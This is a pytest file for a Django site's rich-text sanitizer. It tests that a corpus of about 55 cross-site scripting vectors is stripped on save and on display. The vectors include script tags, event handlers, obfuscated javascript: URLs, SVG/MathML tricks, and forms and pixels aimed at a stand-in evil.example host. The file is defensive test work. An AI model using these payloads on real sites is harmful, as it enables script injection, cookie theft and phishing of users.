"""Rich text is made safe on the server, on save and again when shown.

A corpus of known attack vectors goes through both paths and nothing dangerous survives;
everything the editor's toolbar makes survives unchanged. A post's body is cleaned again
when shown only when its stamp does not vouch for it (an older sanitizer, another road).
"""

import importlib
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import reverse

from articles.models import Post
from facility.models import Page, Service
from plumbing import richtext
from plumbing.richtext import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize, sanitized_stamp

ATTACKS = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<script type="text/javascript">document.cookie</script>',
    "<<script>alert(1);//<</script>",
    "<script/xss src=//evil.example/x.js></script>",
    # Event handlers.
    '<p onclick="alert(1)">click</p>',
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.jpg" onload="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="/contact/" onmouseover="alert(1)">hover</a>',
    "<details open ontoggle=alert(1)>",
    '<p ONCLICK="alert(1)">upper-case handler</p>',
    # javascript:, vbscript: and data: URLs, encoded and obfuscated.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="java&#115;cript:alert(1)">entity</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">all</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:alert(1)">',
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS.
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">bg</p>',
    '<img src="/media/a.jpg" style="width: expression(alert(1))">',
    '<img src="/media/a.jpg" style="width:10px;background-image:url(//evil.example/x)">',
    '<div style="behavior: url(x.htc)">old IE</div>',
    # Frames, objects and embeds.
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # Forms and inputs that could phish or autofocus script.
    '<form action="https://evil.example/"><input name="password"></form>',
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    # Document-level tags.
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Images from elsewhere (tracking pixels) and paths escaping our media.
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/media/../admin/">',
    '<img src="/static/img/logo.png">',
    # Malformed and comment tricks.
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="/x" title="a"onclick="alert(1)">no space</a>',
    "<p>unclosed <b>bold <script>alert(1)",
    '<img """><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]

ALLOWED = [
    "<h2>A heading</h2><h3>Smaller</h3><h4>Smallest</h4>",
    "<p><strong>Bold</strong>, <em>italic</em>, <b>b</b> and <i>i</i>.</p>",
    "<ul><li>One</li><li>Two</li></ul><ol><li>First</li></ol>",
    "<blockquote><p>A quote.</p></blockquote>",
    '<p><a href="/contact/">Contact us</a> or <a href="mailto:help@example.org">write</a>.</p>',
    '<p><a href="tel:+18556052135">Call</a></p>',
    '<p><a href="https://www.samhsa.gov/" rel="noopener noreferrer">SAMHSA</a></p>',
    '<p><img alt="The lounge" src="/media/uploads/2026/11/25/a.jpg"></p>',
    '<p><img alt="Sized" src="/media/uploads/b.jpg" style="width:480px;height:320px"></p>',
    '<p><img alt="Attrs" height="200" src="/media/uploads/c.jpg" width="300"></p>',
    '<table><caption>Hours</caption><thead><tr><th scope="col">Day</th></tr></thead>'
    '<tbody><tr><td colspan="2">Open</td></tr></tbody></table>',
    "<hr><p>Line<br>break</p>",
]

SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}


class SafetyChecker(HTMLParser):
    """Walks sanitized HTML and records anything outside the allow-list."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if (tag, name) in {("a", "rel"), ("img", "loading"), ("img", "decoding")}:
                continue  # added by us, with fixed values
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name == "href" and urlsplit(value.strip()).scheme.lower() not in SAFE_SCHEMES:
                self.problems.append(f"href {value!r}")
            elif name == "src" and (not value.startswith("/media/") or ".." in value):
                self.problems.append(f"src {value!r}")
            elif name == "style" and not re.fullmatch(
                r"((width|height):\d+(\.\d+)?(px|%)?;?)+", value
            ):
                self.problems.append(f"style {value!r}")

    def handle_comment(self, data):
        self.problems.append("comment")


def problems(html):
    checker = SafetyChecker()
    checker.feed(html)
    checker.close()
    lowered = html.lower()
    for needle in ["javascript:", "vbscript:", "expression(", "<script", "url("]:
        if needle in lowered:
            checker.problems.append(needle)
    return checker.problems


def test_the_corpus_is_big_enough_and_the_checker_sees_every_attack():
    assert len(ATTACKS) >= 40
    # Unsanitized, every vector must be caught: otherwise the tests below prove nothing.
    assert [attack for attack in ATTACKS if not problems(attack)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_defused_on_save(attack, make_post, make_service):
    post = make_post(body=f"<p>Before</p>{attack}<p>After</p>")
    service = make_service(body=attack)
    page = Page.objects.create(title="P", slug="p", body=attack)

    for model, pk in [(Post, post.pk), (Service, service.pk), (Page, page.pk)]:
        stored = model.objects.values_list("body", flat=True).get(pk=pk)
        assert problems(stored) == [], stored


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_defused_when_shown_even_if_stored_raw(
    attack, client, facility, make_post, make_service
):
    # Text that reached the database by another road (a raw update, an old import).
    post = make_post()
    Post.objects.filter(pk=post.pk).update(body=f"<p>Before</p>{attack}<p>After</p>")
    service = make_service()
    Service.objects.filter(pk=service.pk).update(body=attack)
    page = Page.objects.create(title="P", slug="p", body="<p>x</p>")
    Page.objects.filter(pk=page.pk).update(body=attack)

    for url in [post.get_absolute_url(), service.get_absolute_url(), page.get_absolute_url()]:
        html = client.get(url).content.decode()
        prose = html[
            html.index('<div class="prose">') + 19 : html.index(
                "</div>", html.index('class="prose"')
            )
        ]
        assert problems(prose) == [], prose


def prose_of(client, url):
    html = client.get(url).content.decode()
    start = html.index('<div class="prose">') + 19
    return html[start : html.index("</div>", start)]


def stamp_of_an_older_sanitizer(html, monkeypatch):
    with monkeypatch.context() as older:
        older.setattr(richtext, "SANITIZER_VERSION", richtext.SANITIZER_VERSION - 1)
        return sanitized_stamp(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_stored_under_an_older_sanitizer_is_defused_when_shown(
    attack, client, facility, make_post, monkeypatch
):
    # Raw text that an older sanitizer let through, with that sanitizer's valid stamp.
    post = make_post()
    raw = f"<p>Before</p>{attack}<p>After</p>"
    stamp = stamp_of_an_older_sanitizer(raw, monkeypatch)
    Post.objects.filter(pk=post.pk).update(body=raw, body_stamp=stamp)

    assert problems(prose_of(client, post.get_absolute_url())) == []


@pytest.fixture
def sanitized(monkeypatch):
    """The texts sanitize() is given from now on."""
    calls = []

    def counting(html):
        calls.append(html)
        return sanitize(html)

    monkeypatch.setattr(richtext, "sanitize", counting)
    return calls


def test_a_saved_body_is_stamped_and_not_sanitized_again_when_shown(
    client, facility, make_post, sanitized
):
    post = make_post(body='<p>Clean <a href="https://example.org/">text</a></p>')
    post.refresh_from_db()
    assert post.body_stamp == sanitized_stamp(post.body)
    sanitized.clear()

    prose = prose_of(client, post.get_absolute_url())

    assert sanitized == []
    assert 'rel="noopener noreferrer">text</a>' in prose


def test_a_body_from_an_older_sanitizer_is_sanitized_again_when_shown(
    client, facility, make_post, sanitized, monkeypatch
):
    post = make_post(body="<p>Kept <em>as is</em></p>")
    monkeypatch.setattr(richtext, "SANITIZER_VERSION", richtext.SANITIZER_VERSION + 1)
    sanitized.clear()

    prose = prose_of(client, post.get_absolute_url())

    assert sanitized == ["<p>Kept <em>as is</em></p>"]
    assert "<p>Kept <em>as is</em></p>" in prose


def test_the_migration_sanitizes_and_stamps_stored_bodies_once(make_post):
    from django.apps import apps

    post = make_post()
    Post.objects.filter(pk=post.pk).update(body="<p>Old</p><script>x()</script>", body_stamp="")
    migration = importlib.import_module("articles.migrations.0008_post_body_stamp")

    migration.sanitize_and_stamp(apps, None)

    post.refresh_from_db()
    assert post.body == "<p>Old</p>"
    assert post.body_stamp == sanitized_stamp("<p>Old</p>")


@pytest.mark.parametrize("html", ALLOWED)
def test_what_the_toolbar_makes_survives_unchanged(html, client, facility, make_post):
    assert sanitize(html) == html
    post = make_post(body=html)
    post.refresh_from_db()
    assert post.body == html
    shown = html.replace("<img ", '<img loading="lazy" decoding="async" ')
    page = client.get(reverse("articles:post", args=[post.slug])).content.decode()
    assert f'<div class="prose">{shown}</div>' in page


def test_external_links_get_rel_and_internal_links_do_not():
    html = sanitize(
        '<a href="https://www.samhsa.gov/">out</a><a href="/contact/">in</a>'
        '<a href="mailto:a@example.org">mail</a><a href="https://evil.example" rel="opener">x</a>'
    )
    assert html == (
        '<a href="https://www.samhsa.gov/" rel="noopener noreferrer">out</a>'
        '<a href="/contact/">in</a><a href="mailto:a@example.org">mail</a>'
        '<a href="https://evil.example" rel="noopener noreferrer">x</a>'
    )


def test_our_own_absolute_links_and_images_count_as_ours(settings):
    settings.SITE_URL = "https://www.recovery.example"
    html = sanitize(
        '<a href="https://www.recovery.example/contact/">in</a>'
        '<img alt="" src="https://www.recovery.example/media/uploads/a.jpg">'
        '<img alt="" src="https://other.example/media/uploads/a.jpg">'
    )
    assert html == (
        '<a href="https://www.recovery.example/contact/">in</a>'
        '<img alt="" src="https://www.recovery.example/media/uploads/a.jpg">'
    )


@pytest.mark.parametrize("kind", ["service", "page"])
def test_service_and_page_bodies_are_stamped_on_save_and_not_sanitized_again(
    client, facility, make_service, sanitized, kind
):
    html = '<p>Clean <a href="https://example.org/">text</a></p>'
    if kind == "service":
        record = make_service(body=html)
    else:
        record = Page.objects.create(title="Visiting hours", slug="visiting-hours", body=html)
    record.refresh_from_db()
    assert record.body_stamp == sanitized_stamp(record.body)
    sanitized.clear()

    prose = prose_of(client, record.get_absolute_url())

    assert sanitized == []
    assert 'rel="noopener noreferrer">text</a>' in prose
    # Changed behind the model's back, it is no longer vouched for: cleaned when shown.
    type(record).objects.filter(pk=record.pk).update(body="<p>Raw</p><script>x()</script>")
    assert prose_of(client, record.get_absolute_url()) == "<p>Raw</p>"
    assert sanitized == ["<p>Raw</p><script>x()</script>"]


def test_the_facility_migration_stamps_stored_service_and_page_bodies(make_service):
    from django.apps import apps

    service = make_service()
    page = Page.objects.create(title="Visiting hours", slug="visiting-hours", body="<p>x</p>")
    for record in (service, page):
        type(record).objects.filter(pk=record.pk).update(
            body_en="<p>Old</p><script>x()</script>", body_stamp="", body_es="<p>Viejo</p>"
        )
    migration = importlib.import_module("facility.migrations.0021_body_stamps")

    migration.sanitize_and_stamp(apps, None)

    for record in (service, page):
        record.refresh_from_db()
        assert record.body_en == "<p>Old</p>"
        assert record.body_stamp == sanitized_stamp("<p>Old</p>")
        assert record.body_stamp_es == sanitized_stamp("<p>Viejo</p>")
